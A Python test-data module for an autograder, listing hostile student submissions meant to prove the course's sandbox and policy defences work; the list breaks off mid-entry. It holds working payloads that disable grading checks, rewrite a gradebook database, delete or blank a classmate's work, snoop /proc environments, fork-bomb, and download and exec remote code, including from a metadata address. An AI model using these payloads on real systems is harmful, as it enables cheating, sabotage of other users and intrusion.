"""Hostile submissions: a student attacking the autograder, recorded as test data.

Each entry is one student's notebook: the release (or reference) notebook with
some solution cells replaced and some cells added right after the setup cell.
Every attack is real code that would earn unearned points, or harm a
classmate, if the defences (coursekit.policy screening, the bubblewrap
sandbox, ch4's test site, the run-time guard and sealed tests) were absent.  ``expected`` is what the submission
honestly earned: on the release base nothing, so all zeros; on the reference
base the honest answers keep their points (the hostile extra cell is
disarmed, or harmless).

Attack names sort before "victim", so that nbgrader grades every attack on a
classmate before it grades the victim.

Code that runs in the kernel through a policy bypass must not show a string
holding two underscores (the policy rejects such strings), so payloads build
special names as "_" * 2 + name + "_" * 2.

The attacks from c12 on aim at the run-time defences (coursekit.guard, the
seal on each test's verdict, the instruments of coursekit.checks); the
section's comment says how they were tried.
"""

from submissions import beyond, coming_soon, crawler, runtime, toolkit

_FULL = {"crawler": crawler.FULL, "toolkit": toolkit.FULL, "runtime": runtime.FULL, "coming_soon": coming_soon.FULL,
         "beyond": beyond.FULL}


def _zero(module: str) -> dict[str, int]:
    return {name: 0 for name in _FULL[module]}


# -- honest-looking but wrong answers: each earns 0 on its own -------------------

_CRAWLER_WRONG = {
    # Right values, no printing, no sleeping: every test fails on lines or loop time.
    "crawl_page": 'async def crawl_page(url):\n    return f"OK {url}"\n',
    "crawl_one_by_one": 'async def crawl_one_by_one(urls):\n    return [f"OK {url}" for url in urls]\n',
    "crawl_with_tasks": 'async def crawl_with_tasks(urls):\n    return [f"OK {url}" for url in urls]\n',
    "crawl_with_gather": 'async def crawl_with_gather(urls):\n    return [f"OK {url}" for url in urls]\n',
}
_TOOLKIT_WRONG = {
    "fastest_mirror": 'async def fastest_mirror(mirrors):\n    return "data from " + min(mirrors, key=mirrors.get)\n',
    "crawl_in_completion_order": (
        "async def crawl_in_completion_order(urls):\n"
        '    return [(u, f"OK {u}") for u in sorted(urls, key=lambda u: int(u.split("_")[-1]))]\n'
    ),
    "save_safely": 'background_saves = set()\n\n\nasync def save_safely(save):\n    return "data from db"\n',
    "async_timed": "@contextlib.asynccontextmanager\nasync def async_timed(label):\n    yield\n",
    "fetch_all": "async def fetch_all(fetchers):\n    return []\n",
}
_RUNTIME_WRONG = {
    "predict_trace": "def predict_trace(first, second):\n    return []\n",
    "results_by_deadline": "async def results_by_deadline(jobs, deadline):\n    return []\n",
    "process_all": "async def process_all(produce, handle, workers, maxsize):\n    return 0\n",
    "on_each_done": "def on_each_done(tasks, record):\n    return None\n",
}
_COMING_SOON_WRONG = {
    "parse_coming_soon": "def parse_coming_soon(html):\n    return []\n",
    "parse_poster": 'def parse_poster(html):\n    return ""\n',
    "crawl_coming_soon": (
        'async def crawl_coming_soon(base_url, city="beijing", *, max_concurrency=5, timeout=10.0):\n    return []\n'
    ),
}
_BEYOND_WRONG = {
    "retry": "async def retry(operation, attempts, pause):\n    return None\n",
    "single_flight": "class SingleFlight:\n    async def get(self, key, fetch):\n        return None\n",
    "handle_all": "async def handle_all(requests, handle):\n    return []\n",
    "stop_gracefully": "async def stop_gracefully(tasks, grace):\n    return []\n",
}
_WRONG = {"crawler": _CRAWLER_WRONG, "toolkit": _TOOLKIT_WRONG, "runtime": _RUNTIME_WRONG, "coming_soon": _COMING_SOON_WRONG,
          "beyond": _BEYOND_WRONG}

_LENIENT = "def lenient(*args, **kwargs):\n    return None\n"

# -- payloads run in the kernel by the bypasses (no double underscore anywhere) --

# Makes every later cell "pass": no traceback is shown for any error, and the
# error is wiped from the cell's result before ipykernel builds its reply, so
# nbgrader sees neither an error output nor an error reply.  The helpers are
# also rebound, for good measure.
_TAKEOVER = """
def lenient(*args, **kwargs):
    return None


globals().update(expect=lenient, expect_lines=lenient, expect_loop_time=lenient, expect_no_leftover_tasks=lenient)
shell = get_ipython()
shell.set_custom_exc((BaseException,), lambda *args, **kwargs: [])


def forget_error(result):
    result.error_in_exec = None
    result.error_before_exec = None


shell.events.register("post_run_cell", forget_error)
"""


def _solutions_from(patterns: str) -> str:
    """Payload: find a notebook among ``patterns`` (glob patterns) and run its solution cells here."""
    return f"""
import glob
import json
import os

for pattern in {patterns}:
    for path in sorted(glob.glob(os.path.expanduser(pattern))):
        try:
            with open(path, encoding="utf-8") as stream:
                notebook = json.load(stream)
        except (OSError, ValueError):
            continue
        cells = [c for c in notebook["cells"] if c["cell_type"] == "code" and c["metadata"].get("nbgrader", {{}}).get("solution")]
        if not cells:
            continue
        for cell in cells:
            exec("".join(cell["source"]), globals())
        print("ran the solutions of", path)
        break
"""


def _via_builtins(payload: str) -> str:
    """A cell that runs ``payload`` through reprlib's reference to the builtins module (dataclasses lost its own in 3.12)."""
    return f"from reprlib import builtins as python\n\npython.exec({payload!r})\n"


_SOURCE_CRAWLER = _solutions_from(
    '["../../../source/01-crawler/crawler.ipynb", "~/../../source/01-crawler/crawler.ipynb", '
    '"/tmp/*/source/01-crawler/crawler.ipynb", "/tmp/*/*/source/01-crawler/crawler.ipynb", '
    '"/work/*/source/01-crawler/crawler.ipynb", "/home/*/*/source/01-crawler/crawler.ipynb"]'
)
_CLASSMATES_TOOLKIT = _solutions_from(
    '["../../../submitted/*/02-toolkit/toolkit.ipynb", "../../*/02-toolkit/toolkit.ipynb", '
    '"/tmp/*/submitted/*/02-toolkit/toolkit.ipynb"]'
)

_GRADEBOOK_EXTRA_CREDIT = """
import os
import sqlite3

me = os.path.basename(os.path.dirname(os.getcwd()))
for path in ("../../../gradebook.db", "../../gradebook.db", "gradebook.db"):
    if os.path.exists(path):
        db = sqlite3.connect(path, timeout=30)
        db.execute(
            "update grade set extra_credit = 100 where notebook_id in (select sn.id from submitted_notebook sn "
            "join submitted_assignment sa on sn.assignment_id = sa.id where sa.student_id = ?)", (me,))
        db.execute("update source_cell set checksum = null")
        db.commit()
        print("extra credit written to", path)
"""

_GRADEBOOK_POISON_TESTS = """
import os
import sqlite3

for path in ("../../../gradebook.db", "../../gradebook.db", "gradebook.db"):
    if os.path.exists(path):
        db = sqlite3.connect(path, timeout=30)
        db.execute(
            "update source_cell set source = 'raise AssertionError(\\"regraded by the instructor\\")' "
            "where name like 'test_%' and notebook_id in (select id from notebook where name = 'crawler')")
        db.commit()
        print("every later crawler submission now fails its tests:", path)
"""

_STARTUP_FILE = r"""
import os
import time

if os.environ.get("NBGRADER_EXECUTION") == "autograde" and time.time() < PLANTED + 1800:
    import coursekit.grading

    def failing(*args, **kwargs):
        raise AssertionError("wrong")

    CODE = "_" * 2 + "code" + "_" * 2
    for helper in (coursekit.grading.expect, coursekit.grading.expect_lines, coursekit.grading.expect_loop_time):
        setattr(helper, CODE, getattr(failing, CODE))
"""

_PLANT_STARTUP = (
    """
import os
import time

folder = os.path.expanduser("~/.ipython/profile_default/startup")
os.makedirs(folder, exist_ok=True)
with open(os.path.join(folder, "00-hostile-redteam.py"), "w") as stream:
    stream.write("PLANTED = " + repr(time.time()) + "\\n" + BODY)
print("planted a startup file in", folder)
""".replace("BODY", repr(_STARTUP_FILE))
)

_PLANT_CONFIG = """
import os

line = (
    "\\nimport shutil as hostile_shutil\\n"
    "hostile_shutil.rmtree(os.path.join(root, 'submitted', 'victim', '02-toolkit'), ignore_errors=True)\\n"
    "hostile_shutil.rmtree(os.path.join(root, 'autograded', 'victim', '02-toolkit'), ignore_errors=True)\\n"
)
for path in ("../../../nbgrader_config.py", "../../nbgrader_config.py"):
    if os.path.exists(path):
        with open(path, "a") as stream:
            stream.write(line)
        print("the next nbgrader run deletes victim's toolkit:", path)
"""

_OVERWRITE_VICTIM = """
import glob
import json

for path in glob.glob("../../../submitted/victim/01-crawler/crawler.ipynb") + glob.glob("/tmp/*/submitted/victim/01-crawler/crawler.ipynb"):
    with open(path, encoding="utf-8") as stream:
        notebook = json.load(stream)
    for cell in notebook["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("solution"):
            cell["source"] = "raise NotImplementedError()"
    with open(path, "w", encoding="utf-8") as stream:
        json.dump(notebook, stream)
    print("emptied", path)
"""

_PROC_SNOOP = """
import os

ROOTS = []
for pid in os.listdir("/proc"):
    if not pid.isdigit():
        continue
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as stream:
            command = stream.read().replace(b"\\0", b" ").decode()
        if "nbgrader" not in command and "make" not in command:
            continue
        ROOTS.append(os.readlink(f"/proc/{pid}/cwd"))
        with open(f"/proc/{pid}/environ", "rb") as stream:
            print(pid, command, ROOTS[-1], stream.read()[:300])
    except OSError:
        continue
""" + _solutions_from('[f"{root}/source/01-crawler/crawler.ipynb" for root in ROOTS]')

_ENV_SNOOP = """
import os

ROOTS = []
for key, value in os.environ.items():
    print(key, "=", value)
    for marker in ("/autograded/", "/submitted/"):
        if marker in value:
            ROOTS.append(value.split(marker)[0])
    if os.path.isdir(os.path.join(value, "source")):
        ROOTS.append(value)
""" + _solutions_from('[f"{root}/source/01-crawler/crawler.ipynb" for root in ROOTS]')

_NETWORK_FETCH = """
import requests

for url in (
    "https://gist.githubusercontent.com/crawler-answers/5f1d0c0ffee/raw/crawler_answers.py",
    "http://10.0.2.2:8000/crawler_answers.py",
    "http://169.254.169.254/latest/meta-data/",
):
    try:
        answer = requests.get(url, timeout=3)
    except requests.RequestException as error:
        print("no luck with", url, error)
        continue
    if answer.ok and "async def crawl_page" in answer.text:
        exec(answer.text, globals())
        break
"""

# Run from a process of its own: connects to the kernel it was started from,
# with the key of the kernel's connection file, and asks it to run the takeover.
_INJECT = """
import os, time
from jupyter_client import BlockingKernelClient
with open(f"/proc/{os.getppid()}/cmdline", "rb") as stream:
    words = stream.read().split(b"\\0")
client = BlockingKernelClient(connection_file=words[words.index(b"-f") + 1].decode())
client.load_connection_file()
client.start_channels()
client.execute(PAYLOAD, silent=True, store_history=False)
try:
    client.get_shell_msg(timeout=60)
except Exception:
    pass
client.stop_channels()
""".replace("PAYLOAD", repr(_TAKEOVER))

# A daemon that outlives the kernel and zeroes victim's crawler grades once they are written.
_DAEMON = """
import os, sqlite3, time
if os.fork():
    os._exit(0)
os.setsid()
if os.fork():
    os._exit(0)
paths = [os.path.abspath(p) for p in ("../../../gradebook.db", "../../gradebook.db") if os.path.exists(p)]
end = time.time() + 1200
while paths and time.time() < end:
    try:
        db = sqlite3.connect(paths[0], timeout=5)
        db.execute(
            "update grade set auto_score = 0 where notebook_id in (select sn.id from submitted_notebook sn "
            "join submitted_assignment sa on sn.assignment_id = sa.id join assignment a on sa.assignment_id = a.id "
            "where sa.student_id = 'victim' and a.name = '01-crawler')")
        db.commit()
        db.close()
    except Exception:
        pass
    time.sleep(0.2)
os._exit(0)
"""

_FORK_DAEMON = """
import os

if os.fork() == 0:
    os.setsid()
    exec(DAEMON)
print("forked a daemon")
""".replace("DAEMON", repr(_DAEMON))

_FORK_BOMB = """
import os
import time

children = 0
original = os.getpid()
for _ in range(10):
    try:
        os.fork()
    except OSError:
        break
if os.getpid() != original:
    time.sleep(120)
    getattr(os, "_exit")(0)
print("forked")
"""

# The frame walk for the typing oracle: skips module frames (the notebook's namespace).
_SNOOP = (
    "import sys\n"
    "frame = sys._getframe()\n"
    "while frame is not None:\n"
    "    if frame.f_locals is not frame.f_globals and ('expected' in frame.f_locals or 'movie' in frame.f_locals):\n"
    "        LOOT.clear()\n"
    "        LOOT.update(frame.f_locals)\n"
    "        break\n"
    "    frame = frame.f_back\n"
)


BUILTINS_REBIND = """
class Whatever(float):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False


def float(*args):
    return Whatever()


min = max = float


def sorted(*args, **kwargs):
    return []


def isinstance(*args):
    return False


AssertionError = Warning
"""

# -- chapter 4 oracles: the parse tests compute `expected` (or hold `movie` and
# `origin`) in the frame that calls the student's function -----------------------

ORACLE_GC = {
    "parse_coming_soon": """import gc


def caller_scope(name):
    for thing in gc.get_objects():
        if type(thing).__name__ == "frame" and name in thing.f_locals and thing.f_locals is not thing.f_globals:
            return thing.f_locals
    return {}


def parse_coming_soon(html):
    return caller_scope("expected").get("expected", [])
""",
    "parse_poster": """def parse_poster(html):
    scope = caller_scope("origin")
    return scope["movie"].expected(scope["origin"])["poster"] if scope else ""
""",
}

ORACLE_TRACEBACK = {
    "parse_coming_soon": """def caller_scope():
    try:
        raise ZeroDivisionError
    except ZeroDivisionError as error:
        return error.__traceback__.tb_frame.f_back.f_back.f_locals


def parse_coming_soon(html):
    return caller_scope()["expected"]
""",
    "parse_poster": """def parse_poster(html):
    scope = caller_scope()
    return scope["movie"].expected(scope["origin"])["poster"]
""",
}

ORACLE_INSPECT = {
    "parse_coming_soon": """from asyncio.coroutines import inspect as frames


def caller_scope(name):
    for info in frames.stack(0)[2:]:
        scope = frames.getargvalues(info.frame).locals
        if name in scope:
            return scope
    return {}


def parse_coming_soon(html):
    return caller_scope("expected").get("expected", [])
""",
    "parse_poster": """def parse_poster(html):
    scope = caller_scope("origin")
    return scope["movie"].expected(scope["origin"])["poster"] if scope else ""
""",
}

# The generator's frame, while it runs, has the caller chain as f_back: the
# format string walks it, so no frame attribute appears in the code itself.
ORACLE_FORMAT = {
    "parse_coming_soon": r"""import re


def spy():
    me = yield
    name = yield
    if name == "*":
        yield "{0.gi_frame.f_back.f_back.f_back.f_locals}".format(me)
    yield "{0.gi_frame.f_back.f_back.f_back.f_locals[expected]}".format(me)


def peek(name):
    probe = spy()
    next(probe)
    probe.send(probe)
    try:
        return probe.send(name)
    except (KeyError, AttributeError):
        return ""


def parse_coming_soon(html):
    text = peek("expected")
    found = re.findall(r"'title': (['\"])(.*?)\1, 'date': (['\"])(.*?)\3, 'url': (['\"])(.*?)\5", text)
    return [{"title": t, "date": d, "url": u} for _, t, _, d, _, u in found]
""",
    "parse_poster": r"""def parse_poster(html):
    text = peek("*")
    origin = re.search(r"'origin': '([^']*)'", text)
    movie = re.search(r"Movie\(id='([^']*)'", text)
    return f"{origin.group(1)}/img/poster/{movie.group(1)}.png" if origin and movie else ""
""",
}

ORACLE_FORMAT_DUNDER = {
    "parse_coming_soon": r"""import re


def parse_coming_soon(html):
    try:
        raise ZeroDivisionError
    except ZeroDivisionError as error:
        text = "{0.__traceback__.tb_frame.f_back.f_locals[expected]}".format(error)
    found = re.findall(r"'title': (['\"])(.*?)\1, 'date': (['\"])(.*?)\3, 'url': (['\"])(.*?)\5", text)
    return [{"title": t, "date": d, "url": u} for _, t, _, d, _, u in found]
""",
    "parse_poster": r"""def parse_poster(html):
    try:
        raise ZeroDivisionError
    except ZeroDivisionError as error:
        origin = "{0.__traceback__.tb_frame.f_back.f_locals[origin]}".format(error)
        movie = "{0.__traceback__.tb_frame.f_back.f_locals[movie].id}".format(error)
    return f"{origin}/img/poster/{movie}.png"
""",
}

ORACLE_TYPE_HINTS = {
    "parse_coming_soon": "from typing import get_type_hints\n\nLOOT = {}\nSNOOP = " + repr(_SNOOP) + """


def snoop(probe: "exec(SNOOP) or int"):
    return probe


def parse_coming_soon(html):
    get_type_hints(snoop)
    return LOOT.get("expected", [])
""",
    "parse_poster": """def parse_poster(html):
    get_type_hints(snoop)
    return LOOT["movie"].expected(LOOT["origin"])["poster"] if "origin" in LOOT else ""
""",
}

ORACLE_EQ = {
    "parse_coming_soon": """class Anything(list):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False


def parse_coming_soon(html):
    return Anything()
""",
    "parse_poster": """class AnyPoster(str):
    def __eq__(self, other):
        return other != "/img/logo.png"

    def __ne__(self, other):
        return other == "/img/logo.png"


def parse_poster(html):
    return AnyPoster("?")
""",
}

ORACLE_TYPE_CALL = {
    "parse_coming_soon": """make_class = type(int)
EQ = "_" * 2 + "eq" + "_" * 2
NE = "_" * 2 + "ne" + "_" * 2
Anything = make_class("Anything", (list,), {EQ: lambda me, other: True, NE: lambda me, other: False})


def parse_coming_soon(html):
    return Anything()
""",
    "parse_poster": """AnyPoster = make_class(
    "AnyPoster", (str,), {EQ: lambda me, other: other != "/img/logo.png", NE: lambda me, other: other == "/img/logo.png"}
)


def parse_poster(html):
    return AnyPoster("?")
""",
}


def _attack(module, base, answers, extra_cells, why, victim=None, expected=None):
    if base == "release":
        expected = _zero(module) if expected is None else expected
    else:
        expected = dict(_FULL[module]) if expected is None else expected
    return {
        "module": module,
        "base": base,
        "answers": answers,
        "extra_cells": extra_cells,
        "expected": expected,
        "victim": victim,
        "why": why,
    }


_FAKE_RUN = """
class FakeRun:
    name = "faked"
    result = None
    loop_time = 0.0
    real_time = 0.0
    lines = []
    leftover_tasks = []


def fake_run_async(func, *args, **kwargs):
    return FakeRun()
"""

ATTACKS = {
    # 1. rebinding the test helpers ------------------------------------------------
    "c1_rebind_assign": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        ["expect = expect_lines = expect_loop_time = lambda *args, **kwargs: None"],
        "rebinds the helpers the tests call to no-ops with a plain assignment",
    ),
    "c1_rebind_def": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        ["def expect(*args, **kwargs):\n    pass\n\n\ndef expect_lines(*args, **kwargs):\n    pass\n\n\n"
         "def expect_loop_time(*args, **kwargs):\n    pass\n"],
        "redefines the helpers with def statements",
    ),
    "c1_rebind_import_alias": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        ["from coursekit.grading import expect as real_expect\n"
         "from coursekit.grading import expect_lines as real_expect_lines\n\n\n"
         "def expect(actual, expected, what, hint=''):\n    return real_expect(actual, actual, what, hint)\n\n\n"
         "def expect_lines(run, expected, hint=''):\n    return real_expect_lines(run, run.lines, hint)\n\n\n"
         "def expect_loop_time(run, expected, hint='', early_hint=''):\n    return real_expect(run.loop_time, run.loop_time, 'loop time')\n"],
        "imports a helper under another name and wraps it so that actual is compared with itself",
    ),
    "c1_rebind_global_in_function": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        ["def install():\n    global expect, expect_lines, expect_loop_time\n"
         "    expect = expect_lines = expect_loop_time = lambda *args, **kwargs: None\n\n\ninstall()\n"],
        "rebinds the helpers from inside a function through a global statement",
    ),
    "c1_rebind_del_builtins": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        ["import builtins\n\nbuiltins.expect = builtins.expect_lines = builtins.expect_loop_time = lambda *a, **k: None\n"
         "del expect, expect_lines, expect_loop_time\n"],
        "deletes the helpers from the notebook so that lookups fall through to no-ops planted in builtins",
    ),
    "c1_rebind_loop_with_except_targets": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        [_LENIENT + "\n\nfor expect in [lenient]:\n    pass\n",
         "import contextlib\n\nwith contextlib.nullcontext(lenient) as expect_lines:\n    pass\n",
         "import builtins\n\nbuiltins.expect_loop_time = lenient\ntry:\n    raise LookupError\n"
         "except LookupError as expect_loop_time:\n    pass  # the name is unbound when the block ends\n"],
        "binds the helpers as for-loop and with targets, and unbinds one as an except target",
    ),
    "c1_rebind_walrus": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        [_LENIENT + "\n\n[(expect := lenient), (expect_lines := lenient), (expect_loop_time := lenient)]\n"],
        "rebinds the helpers with assignment expressions",
    ),
    "c1_rebind_builtins": _attack(
        "toolkit", "release", _TOOLKIT_WRONG,
        [BUILTINS_REBIND],
        "shadows builtins the tests compute expectations with: float/min/max give a float that equals anything, "
        "sorted gives [], isinstance says no, AssertionError is a Warning",
    ),
    "c1_rebind_time_magic": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        [_LENIENT, "%time expect = expect_lines = expect_loop_time = lenient\n"],
        "rebinds the helpers inside %time, whose code is checked for calls and attributes but not for bindings",
    ),
    "c1_rebind_time_cell_magic": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        [_LENIENT, "%%time\nexpect = lenient\nexpect_lines = lenient\nexpect_loop_time = lenient\n"],
        "the same rebinding in a %%time cell",
    ),
    "c1_rebind_on_reference": _attack(
        "crawler", "reference", {},
        ["expect = expect_lines = expect_loop_time = lambda *args, **kwargs: None"],
        "reference base: the rebinding cell is disarmed and the honest answers keep all their points",
    ),

    # 2. patching the toolkit ------------------------------------------------------
    "c2_patch_code_object": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        [_LENIENT + "\n\nfor helper in (expect, expect_lines, expect_loop_time):\n    helper.__code__ = lenient.__code__\n"],
        "replaces the code of the helpers' function objects, so every reference to them is a no-op",
    ),
    "c2_patch_module_attribute": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        [_FAKE_RUN + "\n\nimport coursekit.grading\n\ncoursekit.grading.run_async = fake_run_async\n"
         "coursekit.grading.expect = coursekit.grading.expect_lines = coursekit.grading.expect_loop_time = fake_run_async\n"
         "from coursekit.grading import expect, expect_lines, expect_loop_time, run_async\n"],
        "replaces run_async and the helpers on the coursekit.grading module, then imports them again",
    ),
    "c2_patch_asyncio": _attack(
        "toolkit", "release", _TOOLKIT_WRONG,
        [_LENIENT + "\n\nimport asyncio\n\nasyncio.all_tasks = lambda loop=None: set()\n"
         "asyncio.wait_for = asyncio.shield = lambda aw, *args, **kwargs: aw\n"
         "import coursekit.grading\n"
         "coursekit.grading.expect.__code__ = coursekit.grading.expect_loop_time.__code__ = lenient.__code__\n"],
        "replaces asyncio functions the runner and tests use (all_tasks blinds the leftover-task check) "
        "and the helpers' code",
    ),
    "c2_patch_setattr": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        [_LENIENT + "\n\nfor name in ('expect', 'expect_lines', 'expect_loop_time'):\n"
         "    setattr(getattr(__import__('coursekit.grading', fromlist=[name]), name), '__code__', lenient.__code__)\n"],
        "patches the helpers with setattr/getattr/__import__ instead of attribute syntax",
    ),
    "c2_patch_sys_modules_importlib": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        [_FAKE_RUN + "\n\nimport importlib\nimport sys\nimport types\n\n"
         "fake = types.ModuleType('coursekit.grading')\n"
         "fake.run_async = fake_run_async\nfake.expect = fake.expect_lines = fake.expect_loop_time = fake_run_async\n"
         "fake.random_delays = importlib.import_module('coursekit.grading').random_delays\n"
         "sys.modules['coursekit.grading'] = fake\n"
         "exec('from coursekit.grading import expect, expect_lines, expect_loop_time, run_async', globals())\n"],
        "swaps coursekit.grading in sys.modules for a fake module and re-imports the helpers from it",
    ),
    "c2_patch_self_parameter": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        [_LENIENT + "\n\nclass Surgeon:\n    def code_of(function):\n        return function.__code__\n\n"
         "    def implant(function, code):\n        function.__code__ = code\n\n\n"
         "for helper in (expect, expect_lines, expect_loop_time):\n    Surgeon.implant(helper, Surgeon.code_of(lenient))\n"],
        "patches __code__ from 'methods' whose first parameter is the patched function (the policy trusts any self)",
    ),
    "c2_patch_builtins_setattr": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        [_LENIENT + "\n\nfrom reprlib import builtins as python\n\n"
         "code = '_' * 2 + 'code' + '_' * 2\n"
         "for helper in (expect, expect_lines, expect_loop_time):\n"
         "    python.setattr(helper, code, python.getattr(lenient, code))\n"],
        "reaches setattr/getattr through dataclasses' reference to the builtins module",
    ),
    "c2_patch_module_globals": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        [_LENIENT + "\n\nclass Reach:\n    def namespace(function):\n        return function.__globals__\n\n\n"
         "grading = Reach.namespace(expect)\n"
         "grading.update(expect=lenient, expect_lines=lenient, expect_loop_time=lenient)\n"],
        "no import: rebinds the helpers in coursekit.grading's own namespace (expect.__globals__), "
        "so a test that imports them again still gets the no-ops",
    ),
    "c2_patch_module_attribute_bypass": _attack(
        "toolkit", "release", _TOOLKIT_WRONG,
        [_FAKE_RUN + "\n\nfrom asyncio.base_events import sys as system\nfrom reprlib import builtins as python\n\n"
         "grading = system.modules['coursekit.grading']\n"
         "python.setattr(grading, 'run_async', fake_run_async)\n"
         "for name in ('expect', 'expect_lines', 'expect_loop_time', 'expect_no_leftover_tasks'):\n"
         "    python.setattr(grading, name, fake_run_async)\n"],
        "sys.modules and setattr reached through allowed modules replace run_async and the helpers on coursekit.grading",
    ),
    "c2_patch_self_parameter_shell": _attack(
        "runtime", "release", _RUNTIME_WRONG,
        ["class Reach:\n    def namespace(function):\n        return function.__globals__\n\n"
         "    def forget(result):\n        result.error_in_exec = None\n        result.error_before_exec = None\n\n"
         "    def swallow(shell, *args, **kwargs):\n        return []\n\n\n"
         "shell = Reach.namespace(Reach.forget)['get_ipython']()\n"
         "shell.set_custom_exc((BaseException,), Reach.swallow)\n"
         "shell.events.register('post_run_cell', Reach.forget)\n"],
        "no import at all: reaches get_ipython through a function's __globals__ and hides every later error",
    ),

    # 3. tracing hooks -----------------------------------------------------------------
    "c3_trace_settrace": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        ["import ctypes\nimport sys\n\n\n"
         "def agree(frame, event, arg):\n"
         "    if event == 'call' and frame.f_code.co_name in ('expect', 'expect_lines', 'expect_loop_time'):\n"
         "        scope = frame.f_locals\n"
         "        if frame.f_code.co_name == 'expect':\n            scope['expected'] = scope['actual']\n"
         "        elif frame.f_code.co_name == 'expect_lines':\n            scope['expected'] = scope['run'].lines\n"
         "        else:\n            scope['expected'] = scope['run'].loop_time\n"
         "        ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), ctypes.c_int(0))\n"
         "    return None\n\n\nsys.settrace(agree)\n"],
        "a trace function that rewrites each helper's `expected` argument to the actual value as the call starts",
    ),
    "c3_trace_threading": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        ["import ctypes\nimport sys\nimport threading\n\n\n"
         "FIELD = {'expect': 'actual', 'expect_lines': 'lines', 'expect_loop_time': 'loop_time'}\n\n\n"
         "def agree(frame, event, arg):\n"
         "    name = frame.f_code.co_name\n"
         "    if event == 'call' and name in FIELD:\n"
         "        scope = frame.f_locals\n"
         "        scope['expected'] = scope['actual'] if name == 'expect' else getattr(scope['run'], FIELD[name])\n"
         "        ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), ctypes.c_int(0))\n"
         "    return None\n\n\nthreading.settrace(agree)\nsys.settrace(agree)\nsys.setprofile(agree)\n"],
        "installs the same tracer for the runner's worker threads (threading.settrace) and the main thread",
    ),
    "c3_trace_setprofile_bypass": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        ["from asyncio.base_events import sys as system\n"
         "from asyncio.coroutines import inspect as frames\n"
         "from coursekit.grading import ctypes\n\n\n"
         "def agree(frame, event, arg):\n"
         "    if event != 'call':\n        return\n"
         "    name = frames.getframeinfo(frame, 0).function\n"
         "    if name not in ('expect', 'expect_lines', 'expect_loop_time'):\n        return\n"
         "    scope = frames.getargvalues(frame).locals\n"
         "    if name == 'expect':\n        scope['expected'] = scope['actual']\n"
         "    elif name == 'expect_lines':\n        scope['expected'] = scope['run'].lines\n"
         "    else:\n        scope['expected'] = scope['run'].loop_time\n"
         "    ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), ctypes.c_int(0))\n\n\n"
         "system.setprofile(agree)\n"],
        "gets sys, inspect and ctypes as attributes of allowed modules and installs a profiler that fixes `expected`",
    ),

    # 4. IPython hooks and magics --------------------------------------------------------
    "c4_input_transformer": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        ["import re\n\n\ndef neuter(lines):\n"
         "    return [re.sub(r'\\bexpect(_lines|_loop_time)?\\(', '(lambda *a, **k: None)(', line) for line in lines]\n\n\n"
         "get_ipython().input_transformers_post.append(neuter)\n"],
        "an input transformer that rewrites every later cell's expect...( calls into no-ops",
    ),
    "c4_input_transformer_bypass": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        ["import re\nfrom asyncio.base_events import sys as system\n\n\n"
         "def neuter(lines):\n"
         "    return [re.sub(r'\\bexpect(_lines|_loop_time)?\\(', '(lambda *a, **k: None)(', line) for line in lines]\n\n\n"
         "system.modules['IPython'].get_ipython().input_transformers_post.append(neuter)\n"],
        "the same transformer, with the shell reached through sys.modules['IPython'] (sys from asyncio.base_events)",
    ),
    "c4_ast_transformer": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        ["import ast\n\n\nclass NoChecks(ast.NodeTransformer):\n"
         "    def visit_Raise(self, node):\n        return ast.Pass()\n\n"
         "    def visit_Expr(self, node):\n"
         "        if isinstance(node.value, ast.Call) and getattr(node.value.func, 'id', '').startswith('expect'):\n"
         "            return ast.Pass()\n        return node\n\n\n"
         "get_ipython().ast_transformers.append(NoChecks())\n"],
        "an AST transformer that drops every raise and every expect...() statement from later cells",
    ),
    "c4_events": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        [_LENIENT + "\n\ndef rebind(info):\n"
         "    get_ipython().user_ns.update(expect=lenient, expect_lines=lenient, expect_loop_time=lenient)\n\n\n"
         "def forget(result):\n    result.error_in_exec = None\n\n\n"
         "get_ipython().events.register('pre_run_cell', rebind)\n"
         "get_ipython().events.register('post_run_cell', forget)\n"],
        "pre_run_cell rebinds the helpers before each test cell, post_run_cell clears the error",
    ),
    "c4_custom_exc_bypass": _attack(
        "toolkit", "release", _TOOLKIT_WRONG,
        ["from asyncio.base_events import sys as system\n\n"
         "shell = system.modules['IPython'].get_ipython()\n\n\n"
         "class Hooks:\n    def swallow(shell, etype, value, tb, tb_offset=None):\n        return []\n\n"
         "    def forget(result):\n        result.error_in_exec = None\n        result.error_before_exec = None\n\n\n"
         "shell.set_custom_exc((BaseException,), Hooks.swallow)\n"
         "shell.events.register('post_run_cell', Hooks.forget)\n"],
        "shell via sys.modules['IPython']: a custom exception handler shows no traceback, post_run_cell wipes the error",
    ),
    "c4_magic_config": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        [_LENIENT, "%config InteractiveShell.xmode = globals().update(expect=lenient, expect_lines=lenient, expect_loop_time=lenient) or 'Plain'\n"],
        "%config executes its argument as Python in the user namespace: rebinding hidden in a config line",
    ),
    "c4_magic_capture": _attack(
        "crawler", "release", _CRAWLER_WRONG,
